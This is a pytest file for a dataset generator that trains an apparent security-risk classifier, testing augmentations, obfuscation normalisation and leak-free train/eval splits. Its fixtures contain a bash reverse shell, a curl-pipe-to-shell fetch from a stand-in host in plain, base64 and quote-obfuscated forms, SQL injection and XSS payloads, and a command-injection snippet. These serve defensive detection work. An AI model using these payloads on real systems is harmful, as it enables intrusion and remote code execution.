"""Augmentations keep the sample (its skeleton and label); splits keep groups whole."""

from __future__ import annotations

import base64
import random
from collections import Counter

import pytest

from fwyy_ollama.dataset import augment
from fwyy_ollama.dataset.catalog import categories, draw_params, render_input, render_texts
from fwyy_ollama.dataset.generate import generate
from fwyy_ollama.dataset.records import category_from_text, record_category, record_label
from fwyy_ollama.dataset.split import (
    decode,
    group_records,
    leaks,
    skeleton,
    split_groups,
    split_records,
    unwrap_http,
)
from fwyy_ollama.report import Label

SAMPLES = {
    "sqli": "1 UNION SELECT username,password FROM users--",
    "xss": '<img src=x onerror="alert(document.domain)">',
    "bash": "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1",
    "python": 'host = request.args.get("host")\nos.system("ping -c 1 " + host)',
}


@pytest.mark.parametrize("aug", augment.AUGMENTATIONS + augment.FRAMINGS, ids=lambda a: a.name)
def test_each_augmentation_changes_the_text_but_not_the_skeleton(aug: augment.Augmentation) -> None:
    rng = random.Random(0)
    applied = 0
    for category in aug.categories:
        out = aug.apply(SAMPLES[category], rng)
        if out is None:
            continue
        applied += 1
        text, (en, zh) = out
        assert text != SAMPLES[category]
        assert skeleton(text) == skeleton(SAMPLES[category]), (aug.name, text)
        assert (en == "") == (zh == "")
    assert applied, f"{aug.name} applied to none of its categories' samples"


def test_obfuscation_is_not_applied_to_benign_samples() -> None:
    names = {a.name for a in augment.applicable("bash", Label.SAFE)}
    assert "shell_base64" not in names and "shell_quotes" not in names and "shell_comment" in names
    assert {a.name for a in augment.applicable("bash", Label.HIGH)} >= {"shell_base64", "shell_ifs"}


def test_skeleton_undoes_encodings_case_comments_and_renames() -> None:
    s = skeleton("' OR '1'='1")
    assert skeleton("%27%20OR%20%271%27%3D%271") == s
    assert skeleton("'/**/oR/**/'1'='1") == s
    cmd = "curl -s http://evil.example/x.sh | sh"
    assert skeleton(f"echo {base64.b64encode(cmd.encode()).decode()} | base64 -d | bash") == skeleton(cmd)
    assert skeleton("c''url${IFS}-s http://evil.example/x.sh | sh  # cleanup") == skeleton(cmd)
    assert skeleton("a = input()\neval(a)") == skeleton("# note\nexpr=input()\neval(expr)")
    assert skeleton("1 UNION SELECT a FROM users") != skeleton("1 UNION SELECT a FROM accounts")
    assert decode("&#106;avascript:%61lert(1)") == "javascript:alert(1)"


def test_every_template_renders_and_names_its_category() -> None:
    rng = random.Random(0)
    for cat in categories():
        assert {t.label for t in cat.templates} == set(Label), f"{cat.name} lacks a label"
        for t in cat.templates:
            params = draw_params(t, cat.pool, rng)
            text = render_input(t, params)
            assert text.strip() and not any("{" + f + "}" in text for f in t.fields()), t.key
            for lang in ("en", "zh"):
                report = render_texts(t, params, lang, rng.choice(list(cat.subjects[lang])))
                assert category_from_text(report.analysis) == cat.name, (t.key, lang)
                assert report.label is t.label and report.risk and report.solution


def test_generated_variants_keep_the_label_and_stay_in_their_group() -> None:
    data = generate(7, eval_per_cell=1, train_groups_per_cell=4, variants=2)
    groups = group_records(data.train)
    multi = [g for g in groups.values() if len(g) > 1]
    assert len(multi) > 40
    for members in multi:
        assert len({record_label(r) for r in members}) == 1
        assert len({record_category(r) for r in members}) == 1
    assert leaks(data.train, data.eval) == []


def test_split_groups_keeps_groups_whole_and_stratifies() -> None:
    groups = [(f"g{i}", "a" if i % 2 else "b") for i in range(40)]
    train, evals = split_groups(groups, 0.25, seed=3, stratum=lambda g: g[1])
    assert len(evals) == 10 and len(train) == 30 and not set(train) & set(evals)
    assert Counter(g[1] for g in evals) == {"a": 5, "b": 5}
    assert split_groups(groups, 0.25, seed=3, stratum=lambda g: g[1]) == (train, evals)


def test_the_shipped_generation_uses_every_augmentation() -> None:
    data = generate()
    every = augment.AUGMENTATIONS + augment.FRAMINGS
    assert set(data.kinds) == {a.name for a in every} | {"original", "rename"}
    assert min(data.kinds.values()) >= 30


def test_split_records_dedupes_and_never_separates_variants() -> None:
    records = generate(11, eval_per_cell=0, train_groups_per_cell=5, variants=2).train
    duplicated = records + records[:10]
    train, evals = split_records(duplicated, 0.3, seed=1)
    assert len(train) + len(evals) == len(records)
    assert leaks(train, evals) == []
    cells = Counter((record_category(r), record_label(r)) for r in evals)
    assert len(cells) == 20  # every category x label cell is represented in eval
    assert split_records(duplicated, 0.3, seed=1) == (train, evals)


def test_framings_wrap_the_sample_as_it_arrives_and_skeleton_takes_it_back_out() -> None:
    rng = random.Random(3)
    script, (en, _) = augment.shell_script(SAMPLES["bash"], rng)  # type: ignore[misc]
    assert script.startswith("#!") and script.endswith(SAMPLES["bash"]) and "interpreter" in en
    for category in ("sqli", "xss"):
        seen_methods = set()
        for _ in range(12):
            request, _notes = augment.BY_FRAMING[f"{category}_request"].apply(SAMPLES[category], rng)  # type: ignore[misc]
            seen_methods.add(request.split(" ", 1)[0])
            assert "HTTP/1.1\nHost: " in request and " " not in unwrap_http(request)
            assert decode(unwrap_http(request)) == SAMPLES[category]
            assert skeleton(request) == skeleton(SAMPLES[category])
        assert seen_methods == {"GET", "POST"}
    # A whole SQL statement or a multi-line input is not a request parameter; text stays text.
    assert augment.sqli_request("SELECT id FROM users WHERE id = ?", rng) is None
    assert augment.xss_request("<p>\n</p>", rng) is None
    assert unwrap_http("GET is a verb") == "GET is a verb"
    sample = "GET /login.php?user=admin'%20OR%20'1'='1'--%20&pass=x HTTP/1.1\nHost: shop.example.com\n"
    assert skeleton(sample) == skeleton("admin' OR '1'='1'-- ")


def test_framing_adds_train_records_of_both_verdicts_and_leaves_eval_alone() -> None:
    plain = generate(5, eval_per_cell=2, train_groups_per_cell=6, variants=1, framed=0.0)
    framed = generate(5, eval_per_cell=2, train_groups_per_cell=6, variants=1, framed=1.0)
    assert framed.eval == plain.eval
    extra = [r for r in framed.train if r not in plain.train]
    assert len(framed.train) == len(plain.train) + len(extra)
    assert {r["input"].split("\n", 1)[0][:2] for r in extra} >= {"#!"}
    assert any(r["input"].startswith(("GET ", "POST ")) for r in extra)
    verdicts = Counter((record_category(r), record_label(r).is_risky) for r in extra)
    assert all(verdicts[(c, risky)] for c in ("sqli", "xss", "bash", "python") for risky in (False, True))
    assert leaks(framed.train, framed.eval) == []
    for r in extra:  # the framed record keeps its group's label and tells the model about the frame
        twin = next(t for t in plain.train if skeleton(t["input"]) == skeleton(r["input"]))
        assert record_label(r) is record_label(twin)
        assert "HTTP" in r["output"] or "#!" in r["output"]
